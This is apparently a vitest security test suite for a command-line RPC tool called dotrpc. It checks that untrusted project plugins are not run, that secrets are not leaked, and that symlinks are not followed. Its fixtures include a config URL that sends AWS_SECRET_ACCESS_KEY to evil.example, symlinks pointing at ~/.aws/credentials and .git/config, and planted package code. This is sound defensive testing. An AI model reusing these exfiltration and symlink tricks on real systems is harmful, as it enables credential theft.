/** Projects of strangers: what they may not read, run, write or send before anybody has agreed. */
import {
  chownSync,
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs"
import { dirname, join } from "node:path"
import { isDeep } from "@dotrpc/vitest/depth"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { type Bounds, dotrpc, startDotrpc } from "../src/Command.ts"
import { type HostileServer, startHostileServer } from "../src/HostileServer.ts"
import { makeProject, type Project, well } from "../src/Project.ts"
import { wrongOutcome } from "../src/Verdict.ts"

const bounds: Bounds = { seconds: 20, megabytes: 700 }
const storage = 'eth_getStorageAt ["0x5fbdb2315678afecb367f032d93f642f64180aa3", "0x0", "latest"]'
const requests = `### One\n# @network evm\n# @name one\n${storage}\n`

let server: HostileServer
beforeAll(async () => {
  server = await startHostileServer([well])
})
afterAll(() => server[Symbol.asyncDispose]())

const write = (folder: string, files: Readonly<Record<string, string>>): void => {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
}

/** A configuration with a plugin of its own that leaves a mark when it is run. */
const marking = (mark: string): Readonly<Record<string, string>> => ({
  "rpc.config.json": JSON.stringify({
    plugins: ["@dotrpc/plugin-evm", "./own.mjs"],
    networks: { evm: { plugin: "evm", url: "embedded:evm" } },
  }),
  "own.mjs": `import { writeFileSync } from "node:fs"\nwriteFileSync(${JSON.stringify(mark)}, "ran")\nexport default { id: "own", title: "Own", docs: "Own.", methods: [], functions: [], networks: [] }\n`,
})

const commands: ReadonlyArray<ReadonlyArray<string>> = [
  ["check", "a.rpc"],
  ["check", "a.rpc", "--format", "json"],
  ["fmt", "--check", "a.rpc"],
  ["run", "a.rpc", "--dry-run"],
  ["run", "a.rpc"],
  ["credits"],
  ["scan", "eth_getLogs", '[{"fromBlock":"0x0","toBlock":"0x1"}]', "--dry-run"],
].filter((command) => isDeep || command.join(" ") === "check a.rpc" || command.join(" ") === "run a.rpc")

describe("code of a project that nobody has agreed to run", () => {
  const check = (what: string, make: (project: Project, mark: string) => string) =>
    it(`is not run: ${what}`, async () => {
      using project = makeProject({})
      const mark = join(project.folder, "mark")
      const cwd = make(project, mark)
      for (const command of commands) {
        const outcome = await dotrpc(command, { ...project.place, cwd }, bounds)
        expect(wrongOutcome(outcome, bounds, new Set([0, 1, 2, 3, 4])), command.join(" ")).toEqual([])
        expect(existsSync(mark), command.join(" ")).toBe(false)
      }
    })
  check("in its own folder", ({ folder }, mark) => {
    write(folder, { "mine/a.rpc": requests, ...within("mine", marking(mark)) })
    return join(folder, "mine")
  })
  check("in a folder above the repository", ({ folder }, mark) => {
    write(folder, {
      ...within("above", marking(mark)),
      "above/repository/a.rpc": requests,
      "above/repository/.git/HEAD": "ref: refs/heads/main\n",
    })
    return join(folder, "above/repository")
  })
  check("in a folder above that is somebody else's", ({ folder }, mark) => {
    write(folder, { ...within("above", marking(mark)), "above/mine/a.rpc": requests })
    giveAway(join(folder, "above"), join(folder, "above/rpc.config.json"), join(folder, "above/own.mjs"))
    return join(folder, "above/mine")
  })
  check("by a link to a folder elsewhere", ({ folder }, mark) => {
    write(folder, { ...within("elsewhere", marking(mark)), "mine/a.rpc": requests })
    symlinkSync(join(folder, "elsewhere/rpc.config.json"), join(folder, "mine/rpc.config.json"))
    symlinkSync(join(folder, "elsewhere/own.mjs"), join(folder, "mine/own.mjs"))
    return join(folder, "mine")
  })
})

const within = (folder: string, files: Readonly<Record<string, string>>): Readonly<Record<string, string>> =>
  Object.fromEntries(Object.entries(files).map(([path, text]) => [`${folder}/${path}`, text]))

/** Only a superuser can give files away; anyone else who runs this tests their own folder. */
const giveAway = (...paths: ReadonlyArray<string>): void => {
  if (process.getuid?.() === 0) for (const path of paths) chownSync(path, 65_534, 65_534)
}

describe("a configuration in a folder above", () => {
  const check = (what: string, make: (folder: string) => string) =>
    it(`does not count when it is ${what}`, async () => {
      using project = makeProject({})
      const cwd = make(project.folder)
      write(cwd, { "a.rpc": requests })
      const outcome = await dotrpc(["run", "a.rpc", "--format", "json"], { ...project.place, cwd }, bounds)
      expect(wrongOutcome(outcome, bounds, new Set([0, 2]))).toEqual([])
      expect(server.calls("well")).toEqual([])
    })
  const sending = () => JSON.stringify({ networks: { evm: { plugin: "evm", url: `${server.origin}/well/v3/x` } } })
  check("above the repository", (folder) => {
    write(folder, { "rpc.config.json": sending(), "repository/.git/HEAD": "ref: refs/heads/main\n" })
    return join(folder, "repository")
  })
  if (process.getuid?.() === 0)
    check("somebody else's", (folder) => {
      write(folder, { "shared/rpc.config.json": sending(), "shared/mine/x": "" })
      giveAway(join(folder, "shared"), join(folder, "shared/rpc.config.json"))
      return join(folder, "shared/mine")
    })
})

describe("a secret", () => {
  const secret = "canary-51f20cb7d4"
  const network = (url: string) => JSON.stringify({ networks: { evm: { plugin: "evm", url } } })
  const checkRun = async (project: Project, config: string, codes: ReadonlySet<number>) => {
    writeFileSync(join(project.folder, "rpc.config.json"), config)
    const env = { ...project.place.env, AWS_SECRET_ACCESS_KEY: secret, DOTRPC_ALLOW_HOSTS: "" }
    const outcome = await dotrpc(["run", "a.rpc", "--format", "json"], { ...project.place, env }, bounds)
    expect(wrongOutcome(outcome, bounds, codes)).toEqual([])
    expect(outcome.stdout + outcome.stderr).not.toContain(secret)
  }

  const checkOther = (what: string, url: (host: string) => string) =>
    it(`goes to no other host than before: ${what}`, async () => {
      await using first = await startHostileServer([well])
      await using other = await startHostileServer([well])
      using project = makeProject({ "a.rpc": requests })
      await checkRun(project, network(url(first.origin)), new Set([0]))
      expect(first.calls("well")).toHaveLength(1)
      await checkRun(project, network(url(other.origin)), new Set([2]))
      expect(other.calls("well")).toEqual([])
    })
  checkOther("in the path", (host) => `${host}/well/v3/{{$secret.AWS_SECRET_ACCESS_KEY}}`)
  checkOther("in the query", (host) => `${host}/well/v3/x?a={{$secret.AWS_SECRET_ACCESS_KEY}}`)

  it("goes to no host outside this machine unasked", async () => {
    using project = makeProject({ "a.rpc": requests })
    await checkRun(project, network("http://evil.example/v3/{{$secret.AWS_SECRET_ACCESS_KEY}}"), new Set([2]))
  })

  it("is not read as a variable of the environment that nobody listed", async () => {
    await using other = await startHostileServer([well])
    using project = makeProject({ "a.rpc": requests })
    await checkRun(project, network(`${other.origin}/well/v3/{{$env.AWS_SECRET_ACCESS_KEY}}`), new Set([2]))
    expect(other.calls("well")).toEqual([])
  })
})

describe("a file of the reader's", () => {
  const secret = "0xca11ab1e7be1f00d42ca11ab1e7be1f00d42c0de"
  const elsewhere = {
    "home/.aws/credentials": `A\n${secret}\n`,
    "home/other/values.rpc": `@theirs = "${secret}"\n`,
    "home/other/rows.txt": `A\n${secret}\n`,
    "home/clone/.git/HEAD": "ref: refs/heads/main\n",
    "home/clone/.git/config": `A\n${secret}\n`,
    "home/clone/mine.env": `aws_key=${secret}\n`,
    "home/keys.env": `aws_key=${secret}\n`,
  }
  const rows = '### Rows\n# @network evm\n# @each rows.txt\neth_getStorageAt [{{row.A}}, "0x0", "latest"]\n'
  const checkRun = async (
    made: Readonly<Record<string, string>>,
    links: Readonly<Record<string, string>>,
    url = "",
  ): Promise<string> => {
    const heard: Array<string> = []
    await using listener = await startHostileServer([
      {
        name: "well",
        http: ({ id, params, response, url }) => {
          heard.push(JSON.stringify([url, params]))
          response.end(JSON.stringify({ jsonrpc: "2.0", id, result: `0x${"0".repeat(64)}` }))
        },
      },
    ])
    using project = makeProject({})
    const config = { networks: { evm: { plugin: "evm", url: `${listener.origin}/well/v3/x${url}` } } }
    write(project.folder, { ...elsewhere, "home/clone/rpc.config.json": JSON.stringify(config), ...made })
    const cwd = join(project.folder, "home/clone")
    for (const [link, target] of Object.entries(links)) symlinkSync(target, join(cwd, link))
    const outcome = await dotrpc(["run", "a.rpc"], { ...project.place, cwd }, bounds)
    expect(wrongOutcome(outcome, bounds, new Set([0, 1, 2]))).toEqual([])
    return `${heard.join("\n")}${outcome.stdout}${outcome.stderr}`
  }
  const check = (
    what: string,
    made: Readonly<Record<string, string>>,
    links: Readonly<Record<string, string>> = {},
    url = "",
  ) =>
    it(`goes nowhere: ${what}`, async () => {
      expect(await checkRun({ "home/clone/a.rpc": requests, ...made }, links, url)).not.toContain(secret)
    })
  const ofRows = { "home/clone/a.rpc": rows }
  const targets = { "the .env beside it": ".env", "the configuration of Git": ".git/config" }
  for (const [what, target] of Object.entries(targets))
    check(`as rows, by a link to ${what}`, { ...ofRows, "home/clone/.env": `A\n${secret}\n` }, { "rows.txt": target })
  check("as rows, by a link to the home", ofRows, { "rows.txt": "../.aws/credentials" })
  check("as rows, by a link to another project", ofRows, { "rows.txt": "../other/rows.txt" })
  check("as rows, by links one after the other", ofRows, { "rows.txt": "way/config", way: ".git" })
  const fromEnv = "?key={{$secret.aws_key}}"
  check("as a .env, by a link to the home", {}, { ".env": "../keys.env" }, fromEnv)
  const importing = (path: string) => ({
    "home/clone/a.rpc": `# @import ${path}\n### Tell\n# @network evm\neth_getStorageAt ["{{theirs}}", "0x0", "latest"]\n`,
  })
  check("as names, by an import", importing("../other/values.rpc"))
  check("as names, by an import of a link", importing("./values.rpc"), { "values.rpc": "../other/values.rpc" })

  const checkSent = (
    what: string,
    made: Readonly<Record<string, string>>,
    links: Readonly<Record<string, string>> = {},
    url = "",
  ) =>
    it(`is sent where the project has it: ${what}`, async () => {
      expect(await checkRun({ "home/clone/a.rpc": requests, ...made }, links, url)).toContain(secret)
    })
  checkSent("as rows", { ...ofRows, "home/clone/rows.txt": `A\n${secret}\n` })
  checkSent("as a .env, by a link in its folder", {}, { ".env": "mine.env" }, fromEnv)
  checkSent("as names, by an import", { ...importing("./b/c.rpc"), "home/clone/b/c.rpc": `@theirs = "${secret}"\n` })
})

describe("a package of a project", () => {
  it("is not run by a query", async () => {
    using project = makeProject({ "rpc.config.json": "{}", "a.csv": "a\n1\n" })
    const mark = join(project.folder, "mark")
    const brought = "node_modules/@duckdb/node-api"
    write(project.folder, {
      [`${brought}/package.json`]: '{ "name": "@duckdb/node-api", "main": "index.cjs" }',
      [`${brought}/index.cjs`]: `require("node:fs").writeFileSync(${JSON.stringify(mark)}, "ran")`,
    })
    const outcome = await dotrpc(["query", "select 1", "a.csv"], project.place, bounds)
    expect(wrongOutcome(outcome, bounds, new Set([0, 2]))).toEqual([])
    expect(existsSync(mark)).toBe(false)
  })

  const checkBrought = (what: string, config: string, more: Readonly<Record<string, string>>) =>
    it(`is not run because the project itself says that it is trusted: ${what}`, async () => {
      using project = makeProject({})
      const { folder } = project
      const mark = join(folder, "mark")
      write(folder, { "r/x": "", ...more, [`${config}/a.rpc`]: requests, ...within(config, marking(mark)) })
      // Trusted from somewhere else, and the list of that put into the project.
      const place = { ...project.place, cwd: join(folder, config) }
      const elsewhere = { ...place, env: { ...place.env, XDG_DATA_HOME: join(folder, "safe") } }
      expect((await dotrpc(["trust"], elsewhere, bounds)).code).toBe(0)
      expect((await dotrpc(["run", "a.rpc"], elsewhere, bounds)).code).toBe(0)
      expect(existsSync(mark)).toBe(true)
      rmSync(mark)
      cpSync(join(folder, "safe"), join(folder, "r/data"), { recursive: true })
      const at = { ...place, env: { ...place.env, XDG_DATA_HOME: join(folder, "r/data") } }
      const outcome = await dotrpc(["run", "a.rpc"], at, bounds)
      expect(wrongOutcome(outcome, bounds, new Set([0, 2]))).toEqual([])
      expect(existsSync(mark)).toBe(false)
    })
  checkBrought("in its folder", "r", {})
  checkBrought("in its repository", "r/p", { "r/.git/HEAD": "ref: refs/heads/main\n" })
})

describe("a file that something else was planted for", () => {
  it("is written beside the link, and what the link leads to stays as it was", async () => {
    using project = makeProject({ "rpc.config.json": "{}", victim: "precious\n" })
    const victim = join(project.folder, "victim")
    for (const planted of [
      "logs.ndjson.checkpoint.next",
      "logs.ndjson.checkpoint",
      "logs.ndjson.next",
      "report.json.next",
    ])
      symlinkSync(victim, join(project.folder, planted))
    const scan = [
      "scan",
      "eth_getLogs",
      '[{"fromBlock":"0x0","toBlock":"0x63"}]',
      "--network",
      "evm",
      "--output",
      "logs.ndjson",
    ]
    const outcome = await dotrpc(scan, project.place, bounds)
    expect(wrongOutcome(outcome, bounds, new Set([0, 2, 3]))).toEqual([])
    expect(readFileSync(victim, "utf8")).toBe("precious\n")
    expect(lstatSync(victim).isFile()).toBe(true)
  })
})

describe("a file that is not a regular one", () => {
  const check = (name: string, ...args: ReadonlyArray<string>) =>
    it(`is refused soon: ${name}`, async () => {
      using project = makeProject({ "rpc.config.json": "{}", "a.rpc": requests })
      const outcome = await dotrpc(args, project.place, bounds)
      expect(wrongOutcome(outcome, bounds, new Set([0, 2]))).toEqual([])
    })
  check("/dev/zero", "check", "/dev/zero")
  check("/dev/zero as a configuration", "check", "a.rpc", "--config", "/dev/zero")
  check("a share of the network", "check", "//127.0.0.1/share/a.rpc")

  it("is not read forever: standard input without end", async () => {
    using project = makeProject({ "rpc.config.json": "{}" })
    const running = startDotrpc(["check", "-"], project.place, bounds)
    const piece = "### a\n".repeat(20_000)
    for (let sent = 0; sent < 400; sent++) {
      running.write(piece)
      await new Promise((resolve) => setImmediate(resolve))
    }
    running.end()
    expect(wrongOutcome(await running.ended, bounds, new Set([0, 2]))).toEqual([])
  })
})
